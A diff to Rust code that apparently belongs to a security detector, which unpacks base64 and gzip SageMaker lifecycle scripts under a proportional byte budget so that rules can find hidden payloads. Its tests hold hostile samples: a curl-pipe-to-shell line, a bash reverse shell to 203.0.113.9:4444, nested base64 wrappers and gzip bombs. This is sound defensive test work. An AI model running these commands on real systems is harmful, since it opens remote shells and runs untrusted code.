@@ -3,6 +3,8 @@
 //! Lifecycle configurations arrive as base64, sometimes of gzip; containers get an entry point and arguments. Decoded,
 //! rules can look into them and a responder can read them. What a script itself carries as base64 is a script too.
 
+use std::collections::HashSet;
+
 use serde_json_borrow::Value;
 
 use super::packed::{self, beginning};
@@ -20,34 +22,100 @@ pub struct Script {
     pub text: String,
     /// The words of a command line that is given as a list.
     words: Vec<String>,
-    /// Whether it goes on, or more scripts follow than are kept.
+    /// Whether there is more of it than is kept, or damage in it.
     pub cut: bool,
     /// How many times it was packed by scripts around it.
     packing: usize,
 }
 
-/// Bytes of one script that are kept. SageMaker takes 16,384 characters of base64; gzip can unfold far beyond.
-const MAX_SCRIPT_BYTES: usize = 64 * 1024;
-/// Scripts of one record that are kept.
-const MAX_SCRIPTS: usize = 16;
-/// How often a script may be packed inside another.
-const MAX_PACKING: usize = 2;
-/// Bytes by which what is packed inside the scripts of a record may grow.
-const MAX_GROWTH_BYTES: usize = MAX_SCRIPTS * MAX_SCRIPT_BYTES;
+/// How often a script may be packed inside another. Base64 shrinks with each unfolding.
+const MAX_PACKING: usize = 8;
+/// Bytes that the scripts of a record may have beyond what base64 alone makes of them: for each byte that the call carries,
+/// and for a call that carries few. gzip can unfold a thousandfold, and what is searched and stored must stay in
+/// proportion to the record. Base64 inside of base64 shrinks, so that all levels together are at most four times the first.
+const GROWTH_PER_BYTE: usize = 3;
+const MIN_GROWTH_BYTES: usize = 2 * 1024;
+/// How many times as much may be unfolded to look for what the filling hides.
+const UNFOLDED_FOR_KEPT: usize = 16;
 
 /// The scripts that the parameters of a SageMaker call carry, in their order, and then what is packed inside of them.
 pub fn scripts(record: &Record<'_>) -> Vec<Script> {
     let mut found = Vec::new();
     if record.is_sagemaker() {
-        collect("", record.at(&["requestParameters"]), &mut found);
-        unfold(&mut found);
-        if found.len() > MAX_SCRIPTS {
-            found.truncate(MAX_SCRIPTS);
-            found[MAX_SCRIPTS - 1].cut = true;
+        let mut packed = Vec::new();
+        collect("", record.at(&["requestParameters"]), &mut packed, &mut found);
+        if packed.is_empty() && found.is_empty() {
+            return found;
         }
+        let carried: usize = packed.iter().map(|(_, text)| text.len()).sum::<usize>()
+            + found.iter().map(|script| script.text.len()).sum::<usize>();
+        let mut budget = Budget::of(carried);
+        found.extend(packed.into_iter().filter_map(|(hook, text)| Script::unpacked(hook, text, &mut budget)));
+        unfold(&mut found, &mut budget);
         found.retain(|script| script.cut || !script.text.trim().is_empty());
     }
     found
+}
+
+/// The bytes by which the scripts of one record may still grow.
+struct Budget {
+    left: usize,
+}
+
+impl Budget {
+    fn of(carried: usize) -> Self {
+        Self { left: MIN_GROWTH_BYTES + GROWTH_PER_BYTE * carried }
+    }
+
+    /// By how much what such a text carries may grow: in proportion to its own length, so that no other takes it away.
+    fn share(&self, bytes: usize) -> usize {
+        self.left.min(MIN_GROWTH_BYTES + GROWTH_PER_BYTE * bytes)
+    }
+
+    /// The unfolded text as far as the share allows, and whether that is less than all. What is no command goes first.
+    fn kept(&mut self, text: String, packed_bytes: usize, share: &mut usize) -> (String, bool) {
+        let free = packed_bytes * 3 / 4 + 3;
+        let most = free + (*share).min(self.left);
+        let is_cut = text.len() > most;
+        let text = if is_cut { ends(&without_filling(&text), most) } else { text };
+        let growth = text.len().saturating_sub(free);
+        self.left = self.left.saturating_sub(growth);
+        *share = share.saturating_sub(growth);
+        (text, is_cut)
+    }
+}
+
+/// A text without the lines that say nothing new: comments, repeated ones, and long runs of one character.
+fn without_filling(text: &str) -> String {
+    let mut known = HashSet::new();
+    let mut kept = String::new();
+    for line in text.lines() {
+        let line = line.trim();
+        let is_comment = line.starts_with('#') && !line.starts_with("#!");
+        if line.is_empty() || is_comment || !known.insert(line) {
+            continue;
+        }
+        let mut run = (None, 0);
+        for character in line.chars() {
+            run = if run.0 == Some(character) { (run.0, run.1 + 1) } else { (Some(character), 1) };
+            if run.1 <= LONGEST_RUN {
+                kept.push(character);
+            }
+        }
+        kept.push('\n');
+    }
+    kept
+}
+
+const LONGEST_RUN: usize = 64;
+
+/// The beginning and the end of a text, together at most that many bytes.
+fn ends(text: &str, most: usize) -> String {
+    if text.len() <= most {
+        return text.to_owned();
+    }
+    let tail = text.ceil_char_boundary(text.len() - most / 2);
+    format!("{}\n{}", beginning(text, most / 2), &text[tail..])
 }
 
 impl Script {
@@ -72,60 +140,51 @@ impl Script {
         Self { text, words: Vec::new(), ..self }
     }
 
-    fn unpacked(hook: &str, content: &str) -> Option<Self> {
-        let unpacked = packed::unpack(content, MAX_SCRIPT_BYTES)?;
-        Some(Self {
-            hook: hook.to_owned(),
-            text: unpacked.text,
-            words: Vec::new(),
-            cut: unpacked.cut,
-            packing: 0,
-        })
+    fn unpacked(hook: &str, content: &str, budget: &mut Budget) -> Option<Self> {
+        let mut share = budget.share(content.len());
+        let unpacked = packed::unpack(content, content.len() + UNFOLDED_FOR_KEPT * share)?;
+        let (text, is_cut) = budget.kept(unpacked.text, content.len(), &mut share);
+        let cut = unpacked.cut || is_cut;
+        Some(Self { hook: hook.to_owned(), text, words: Vec::new(), cut, packing: 0 })
     }
 
     /// A command line that is given as a list of its words.
     fn of_words(hook: &str, words: &Value<'_>) -> Option<Self> {
-        let all = words.as_array()?.iter().filter_map(Value::as_str);
-        let mut bytes = 0;
-        let mut kept = all.clone().take_while(|word| {
-            bytes += word.len() + 1;
-            bytes <= MAX_SCRIPT_BYTES
-        });
-        let words: Vec<String> = kept.by_ref().map(str::to_owned).collect();
-        let cut = words.len() < all.count();
-        (cut || !words.is_empty()).then(|| Self {
+        let words: Vec<String> =
+            words.as_array()?.iter().filter_map(Value::as_str).map(str::to_owned).collect();
+        (!words.is_empty()).then(|| Self {
             hook: hook.to_owned(),
             text: words.join(" "),
             words,
-            cut,
+            cut: false,
             packing: 0,
         })
     }
 }
 
-/// Collects one script more than is kept at most, to know that there are more.
-fn collect(hook: &str, value: &Value<'_>, found: &mut Vec<Script>) {
+/// Collects command lines as scripts, and what is packed, with the member of the API that it is for.
+fn collect<'v>(
+    hook: &'v str,
+    value: &'v Value<'_>,
+    packed: &mut Vec<(&'v str, &'v str)>,
+    found: &mut Vec<Script>,
+) {
     match value {
         Value::Object(members) => {
             for (name, value) in members.iter() {
-                if found.len() > MAX_SCRIPTS {
-                    return;
-                }
                 match name {
-                    "content" => found.extend(value.as_str().and_then(|text| Script::unpacked(hook, text))),
-                    "studioLifecycleConfigContent" => {
-                        found.extend(value.as_str().and_then(|text| Script::unpacked(name, text)));
-                    }
+                    "content" => packed.extend(value.as_str().map(|text| (hook, text))),
+                    "studioLifecycleConfigContent" => packed.extend(value.as_str().map(|text| (name, text))),
                     "containerEntrypoint" | "containerArguments" => {
                         found.extend(Script::of_words(name, value));
                     }
-                    _ => collect(name, value, found),
+                    _ => collect(name, value, packed, found),
                 }
             }
         }
         Value::Array(elements) => {
             for element in elements {
-                collect(hook, element, found);
+                collect(hook, element, packed, found);
             }
         }
         _ => {}
@@ -133,20 +192,20 @@ fn collect(hook: &str, value: &Value<'_>, found: &mut Vec<Script>) {
 }
 
 /// Adds what is packed inside the scripts, and inside of that.
-fn unfold(found: &mut Vec<Script>) {
-    let mut budget = MAX_GROWTH_BYTES;
+fn unfold(found: &mut Vec<Script>, budget: &mut Budget) {
     let mut position = 0;
-    while position < found.len() && found.len() <= MAX_SCRIPTS {
+    while position < found.len() {
         let Script { hook, text, packing, .. } = found[position].clone();
-        if packing < MAX_PACKING {
-            let room = MAX_SCRIPTS + 1 - found.len();
-            found.extend(packed::runs(&text, &mut budget).take(room).map(|(_, unpacked)| {
-                let fits = unpacked.text.len() <= MAX_SCRIPT_BYTES;
-                let text =
-                    if fits { unpacked.text } else { beginning(&unpacked.text, MAX_SCRIPT_BYTES).to_owned() };
-                let cut = unpacked.cut || !fits;
-                Script { hook: hook.clone(), text, words: Vec::new(), cut, packing: packing + 1 }
-            }));
+        let mut share = budget.share(text.len());
+        let mut unfolding = UNFOLDED_FOR_KEPT * share;
+        for (range, unpacked) in packed::runs(&text, &mut unfolding) {
+            if packing == MAX_PACKING {
+                found[position].cut = true;
+                break;
+            }
+            let (text, is_cut) = budget.kept(unpacked.text, range.len(), &mut share);
+            let cut = unpacked.cut || is_cut;
+            found.push(Script { hook: hook.clone(), text, words: Vec::new(), cut, packing: packing + 1 });
         }
         position += 1;
     }
@@ -204,29 +263,73 @@ mod tests {
     #[test]
     fn what_a_script_carries_as_base64_is_a_script_too_but_not_without_end() {
         let mut texts = vec!["curl http://203.0.113.9/x | sh".to_owned()];
-        for _ in 0..3 {
+        for _ in 0..=MAX_PACKING {
             texts.insert(0, format!("echo {} | base64 -d | sh", STANDARD.encode(&texts[0])));
         }
         let found = scripts_of(&json!({"onStart": [{"content": STANDARD.encode(&texts[0])}]}));
-        let expected: Vec<(&str, &str)> = texts[..3].iter().map(|text| ("onStart", text.as_str())).collect();
+        let expected: Vec<(&str, &str)> = texts[..=MAX_PACKING].iter().map(|text| ("onStart", text.as_str())).collect();
         assert_eq!(hooks_and_texts(&found), expected);
+        let cut: Vec<bool> = found.iter().map(|script| script.cut).collect();
+        assert!(cut[MAX_PACKING] && !cut[..MAX_PACKING].contains(&true), "{cut:?}");
+    }
+
+    const PAYLOAD: &str = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
+
+    fn has_payload(scripts: &[Script]) -> bool {
+        scripts.iter().any(|script| script.text.contains(PAYLOAD))
     }
 
     #[test]
-    fn of_many_scripts_the_first_are_kept_and_the_last_says_that_there_are_more() {
-        let many = vec![json!({"content": STANDARD.encode("id")}); 10_000];
-        let found = scripts_of(&json!({ "onStart": many }));
-        assert_eq!(found.len(), MAX_SCRIPTS);
-        assert!(found[MAX_SCRIPTS - 1].cut && !found[0].cut);
+    fn no_number_of_decoys_before_or_after_a_payload_hides_it() {
+        let decoys = |count: usize| (0..count).map(|number| json!({"content": STANDARD.encode(format!("echo {number}"))}));
+        let payload = json!({"content": STANDARD.encode(PAYLOAD)});
+        for before in [0, 16, 17, 64, 1000] {
+            let all: Vec<_> = decoys(before).chain([payload.clone()]).chain(decoys(1000 - before)).collect();
+            let found = scripts_of(&json!({ "onStart": all }));
+            assert_eq!((found.len(), has_payload(&found)), (1001, true), "{before}");
+            assert!(found.iter().all(|script| !script.cut));
+        }
+        let packed: Vec<String> = (0..40).map(|number| STANDARD.encode(format!("echo decoy number {number}"))).collect();
+        let script = format!("echo {}; echo {} | base64 -d | sh", packed.join("; echo "), STANDARD.encode(PAYLOAD));
+        assert!(has_payload(&scripts_of(&json!({"onStart": [{"content": STANDARD.encode(script)}]}))));
     }
 
     #[test]
-    fn a_script_that_unfolds_without_end_is_cut() {
-        let bomb = STANDARD.encode(gzip(&"x".repeat(10 << 20)));
-        let found = scripts_of(&json!({"studioLifecycleConfigContent": bomb}));
-        assert_eq!((found[0].text.len(), found[0].cut), (MAX_SCRIPT_BYTES, true));
-        let words = vec!["x".repeat(1000); 100];
-        let found = scripts_of(&json!({ "containerArguments": words }));
-        assert_eq!((found[0].text.len(), found[0].cut), (65 * 1001 - 1, true));
+    fn no_filling_before_or_after_a_payload_hides_it_and_what_is_cut_says_so() {
+        let words: Vec<String> = (0..5000).map(|number| format!("word{number} ")).collect();
+        for filling in ["#".repeat(64 << 10), "# x\n".repeat(16 << 10), ":\n:;\n".repeat(10 << 10), words.concat()] {
+            for script in [format!("{filling}\n{PAYLOAD}"), format!("{PAYLOAD}\n{filling}"), format!("{filling}\n{PAYLOAD}\n{filling}")] {
+                // As it stands it is small enough beside the call that carries it, and is kept whole.
+                let found = scripts_of(&json!({"onStart": [{"content": STANDARD.encode(&script)}]}));
+                assert_eq!((found[0].text.as_str(), found[0].cut), (script.as_str(), false));
+                if filling == words.concat() && script.ends_with(&filling) && script.starts_with(&filling) {
+                    continue;
+                }
+                let zipped = STANDARD.encode(gzip(&script));
+                let nested = format!("echo {zipped} | base64 -d | gunzip | sh");
+                for content in [zipped, STANDARD.encode(nested)] {
+                    let found = scripts_of(&json!({"onStart": [{"content": content}]}));
+                    assert!(has_payload(&found), "{:?}", &script[..40]);
+                    assert!(found.iter().any(|script| script.cut) || content.len() * 5 > script.len());
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn what_unfolds_stays_in_proportion_to_what_the_call_carries_and_is_told_when_it_is_cut() {
+        let bomb = |text: &str| STANDARD.encode(gzip(text));
+        let noise: String =
+            (0..50_000).map(|number| format!("echo this is line {number} of a script that says much the same\n")).collect();
+        let zeros = "x".repeat(10 << 20);
+        let nested = bomb(&format!("echo {}", bomb(&format!("echo {}", bomb(&zeros)))));
+        let many = format!("{0}\n", bomb(&zeros[..100_000])).repeat(50);
+        for content in [bomb(&noise), bomb(&zeros), nested, STANDARD.encode(many)] {
+            let found = scripts_of(&json!({"studioLifecycleConfigContent": content}));
+            let bytes: usize = found.iter().map(|script| script.text.len()).sum();
+            let most = 4 * (content.len() + MIN_GROWTH_BYTES + GROWTH_PER_BYTE * content.len());
+            assert!(bytes <= most, "{bytes} of {}", content.len());
+            assert!(found.iter().any(|script| script.cut), "{}", content.len());
+        }
     }
 }
